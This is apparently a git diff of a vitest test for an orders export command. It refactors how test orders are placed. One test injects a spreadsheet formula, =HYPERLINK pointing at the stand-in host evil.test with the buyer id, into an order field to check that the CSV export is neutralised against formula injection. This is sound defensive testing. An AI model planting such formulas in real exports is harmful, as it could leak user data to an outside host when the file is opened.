@@ -1,29 +1,21 @@
 /** `npm run export -- --orders`. */
 import { readFile, stat } from 'node:fs/promises'
-import { afterAll, beforeAll, expect, it, vi } from 'vitest'
+import { beforeAll, expect, it, vi } from 'vitest'
 import { createClient, type OrderSummary } from '../../client/src/index.ts'
 import { command } from '../../scripts/operate/export.ts'
-import { aFolder, call, type Folder, pointStagingAt } from '../support/command.ts'
+import { call } from '../support/call.ts'
+import { aFolder, pointStagingAt } from '../support/command.ts'
 import { aPerson, instance, query } from '../support/instance/instance.ts'
+import { placeOrders } from '../support/instance/orders.ts'
 
 const client = createClient({ url: instance.url, token: instance.token })
 const REMOTE = ['--remote', '--env', 'staging']
 
-let folder: Folder
 beforeAll(async () => {
-  folder = await aFolder()
+  const { remove } = await aFolder()
   await pointStagingAt(instance.url)
+  return remove
 })
-afterAll(() => folder.remove())
-
-/** Places orders for a person without a wallet. */
-async function placeOrders(buyerUserId: number, count: number, providerId: string | null = null) {
-  const buyerBillingData = { street: 'Road 1', postal: '0150', city: 'Oslo', country: 'NO' }
-  const order = { nftId: 3, listingId: 3, quantity: 2, buyerUserId, buyerBillingData, providerId }
-  const { orders } = await client.placeOrders({ body: Array.from({ length: count }, () => order) })
-  return orders.map(({ id }) => id)
-}
-
 /** Exports the orders of the last and the next minute, as if the next one had passed. */
 async function exportOrders(file: string, ...options: string[]) {
   const now = Date.now()
@@ -46,11 +38,12 @@ async function ordersIn(file: string, buyerId: number): Promise<OrderSummary[]> 
 
 it('writes each order of the time once, while others are placed', async () => {
   const buyerId = await aPerson()
-  const placed = [...(await placeOrders(buyerId, 100)), ...(await placeOrders(buyerId, 30))]
+  const sale = { buyerUserId: buyerId }
+  const placed = [...(await placeOrders(100, sale)), ...(await placeOrders(30, sale))]
   const [result] = await Promise.all([
     exportOrders('orders.jsonl'),
-    placeOrders(await aPerson(), 50),
-    placeOrders(await aPerson(), 50),
+    placeOrders(50, {}),
+    placeOrders(50, {}),
   ])
   expect(result).toMatchObject({ errors: '', status: 0 })
   expect(result.out).toMatch(/^Wrote \d+ orders to orders\.jsonl\.\n$/)
@@ -64,7 +57,7 @@ it('writes each order of the time once, while others are placed', async () => {
 it('writes CSV of which spreadsheets run nothing', async () => {
   const buyerId = await aPerson()
   const number = `=HYPERLINK("https://evil.test/?${buyerId}","a, b")`
-  const [id] = await placeOrders(buyerId, 1, number)
+  const [id] = await placeOrders(1, { buyerUserId: buyerId, quantity: 2, providerId: number })
   const custom = JSON.stringify({ note: '-1' })
   const paid = { grossCents: 1800, taxCents: 300, discountCents: 200, currency: 'EUR' }
   const payment = JSON.stringify({ ...paid, invoiceNumber: '-1' })
